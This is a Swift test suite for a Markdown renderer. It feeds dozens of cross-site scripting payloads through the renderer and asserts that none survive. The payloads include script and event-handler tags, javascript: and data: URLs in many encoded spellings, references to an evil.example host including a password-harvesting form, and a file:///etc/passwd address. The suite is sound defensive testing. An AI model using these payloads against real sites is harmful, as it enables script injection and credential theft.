import Documents
import Testing

/// Known attempts to run a script in another person's page.
@Suite struct HostileMarkdownTests {
    let renderer: MarkdownRenderer

    init() throws { renderer = try MarkdownRenderer(pool: .forTests()) }

    static let rawHTML = [
        "<script>alert(1)</script>", "a <script>alert(1)</script> b", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "a <img src=x onerror=alert(1)> b", "<img src=x onerror=\"alert(1)\"//",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext></mtext><script>alert(1)</script></math>",
        "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<base href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example/a.css>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<style>@import '//evil.example/a.css';</style>", "<style>*{background:url(javascript:alert(1))}</style>",
        "<form action=//evil.example><input name=password><button>Log in</button></form>",
        "<input autofocus onfocus=alert(1)>", "<body onload=alert(1)>", "<video><source onerror=alert(1)></video>",
        "<audio src onerror=alert(1)>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
        "<div style='position:fixed;inset:0'>over everything</div>", "<a href=javascript:alert(1)>x</a>",
        "<a href=\"java&#x0A;script:alert(1)\">x</a>", "<textarea><script>alert(1)</script></textarea>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<!-- --><script>alert(1)</script><!-- -->", "<!--><script>alert(1)</script>-->",
        "<!--\n<img --><img src=x onerror=alert(1)>",
        "<![CDATA[<script>alert(1)</script>]]>", "<?php <script>alert(1)</script> ?>", "<!DOCTYPE x [<!ENTITY a 'b'>]>",
        "</p></div></body><script>alert(1)</script>", "</div></div></main>",
        "<template><script>alert(1)</script></template>",
        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
        "<plaintext>", "<title><script>alert(1)</script></title>", "<select><img src=x onerror=alert(1)></select>",
        "> <script>\n> alert(1)\n> </script>", "- <script>alert(1)</script>", "1. <img src=x onerror=alert(1)>",
        "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |\n", "# <script>alert(1)</script>",
        "**<img src=x onerror=alert(1)>**", "~~<svg onload=alert(1)>~~", "- [x] <img src=x onerror=alert(1)>",
        "[<img src=x onerror=alert(1)>](/a)", "![<img src=x onerror=alert(1)>](/a)",
        "<custom-element onclick=alert(1)>",
        "<p\u{0}onclick=alert(1)>", "<\u{0}script>alert(1)</script>", "\u{FEFF}<script>alert(1)</script>",
        "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}", "<ſcript>alert(1)</ſcript>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&lt;img src=x onerror=alert(1)&gt;",
        "\\<script>alert(1)\\</script>", "`</code><script>alert(1)</script>`",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "    </code></pre><script>alert(1)</script>", "```\"><script>alert(1)</script>\nx\n```",
        "```x\" onmouseover=\"alert(1)\nx\n```", "~~~'onclick=alert(1)\n~~~", "```&quot;&gt;&lt;script&gt;\nx\n```",
    ]

    static let addresses = [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
        "javascript&#x3a;alert(1)", "&#106;avascript:alert(1)", "&#x6A;&#x61;vascript:alert(1)",
        "j\\avascript:alert(1)",
        "javascript\\:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "java&#9;script:alert(1)",
        "java&#10;script:alert(1)", "java&#13;script:alert(1)", "java&#0;script:alert(1)", "&#1;javascript:alert(1)",
        "&#32;javascript:alert(1)", "&#x20;javascript:alert(1)", "&nbsp;javascript:alert(1)",
        "\u{1}javascript:alert(1)",
        "\u{8}javascript:alert(1)", "\u{A0}javascript:alert(1)", "\u{FEFF}javascript:alert(1)",
        "java\u{7f}script:alert(1)",
        "javascript://example.org/%0aalert(1)", "javascript:%61lert(1)", "javascript:&#97;lert(1)",
        "javascript%3Aalert(1)",
        "vbscript:msgbox(1)", "livescript:a", "mocha:a", "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
        "data:image/png;base64,AAAA", "data:,a", "file:///etc/passwd", "ftp://example.org",
        "blob:https://example.org/1",
        "filesystem:http://example.org/a", "view-source:javascript:alert(1)", "jar:http://example.org/a!/b", "tel:1",
        "sms:1",
        "ms-settings:a", "feed:javascript:alert(1)", "about:blank", "intent://a#Intent;end", "x:alert(1)", ":alert(1)",
        "https:javascript:alert(1)", "mailto:a@example.org", "/\"onmouseover=alert(1)", "/'onmouseover=alert(1)",
        "/&quot;onmouseover=alert(1)", "/&#34; onmouseover=alert(1)", "/><script>alert(1)</script>", "/<script>",
        "/%22onmouseover=alert(1)", "/a`b`", "//evil.example/\\\"x", "\\\\evil.example", "&amp;#106;avascript:alert(1)",
        "&amp;colon;", "javascript&amp;colon;alert(1)", "ｊavascript:alert(1)", "javaſcript:alert(1)",
    ]

    static let ways = [
        "[a](%)", "[a](<%>)", "![a](%)", "![a](<%>)", "<%>", "[a]\n\n[a]: %", "[a]\n\n[a]: <%>",
        "[a][b]\n\n[b]: % \"t\"", "![a][b]\n\n[b]: %",
        "[![a](%)](%)", "[a](% \"t\")", "| [a](%) |\n|---|\n| ![a](%) |", "%", "[a](/b \"%\")", "![%](/b)",
        "[a](/b '%')", "```%\nx\n```",
    ]

    @Test(arguments: rawHTML)
    func `HTML of the author never passes`(document: String) async throws {
        let html = SafeHTML(try await renderer.html(of: document))
        #expect(html.violations == [])
    }

    @Test(arguments: addresses)
    func `an address that could run a script is removed, in any spelling`(address: String)
        async throws
    {
        for way in Self.ways {
            let document = way.replacing("%", with: address)
            #expect(SafeHTML(try await renderer.html(of: document)).violations == [], "\(document)")
        }
    }

    @Test func `a link that loses its address keeps its text`() async throws {
        let html = try await renderer.html(
            of: "[read *this*](javascript:alert(1)) ![a picture](data:image/png;base64,AA)")
        #expect(html == "<p>read <em>this</em> a picture</p>\n")
    }

    @Test func `combined attack vectors are removed too`() async throws {
        var random = SystemRandomNumberGenerator()
        let parts =
            Self.rawHTML + Self.addresses + Self.ways + [
                "\n", "\n\n", " ", "<", ">", "\"", "'", "`", "[", "](", ")", "&", "\\", "|",
            ]
        for _ in 0..<3_000 {
            let document = (0..<Int.random(in: 2...6, using: &random)).compactMap { _ in
                parts.randomElement(using: &random)
            }
            .joined(separator: Bool.random(using: &random) ? "" : " ")
            #expect(SafeHTML(try await renderer.html(of: document)).violations == [], "\(document)")
        }
    }

    @Test func `the HTML checker of these tests detects harmful HTML`() {
        for html in [
            "<script>", "<p onclick=\"a\">a</p>", "<a href=\"/a\">a</a>",
            "<a rel=\"nofollow noopener\" href=\"javascript:a\">a</a>",
            "<a rel=\"nofollow noopener\" href=\" java\tscript:a\">a</a>", "<p>a", "</p>", "<!-- a -->", "a < b",
            "<p title='a'>a</p>",
            "<img src=\"data:a\" />", "<input type=\"text\" />", "a &copy; b",
        ] { #expect(!SafeHTML(html).violations.isEmpty, "\(html)") }
        #expect(SafeHTML("<p>a &lt; b<br /></p>").violations.isEmpty)
    }
}
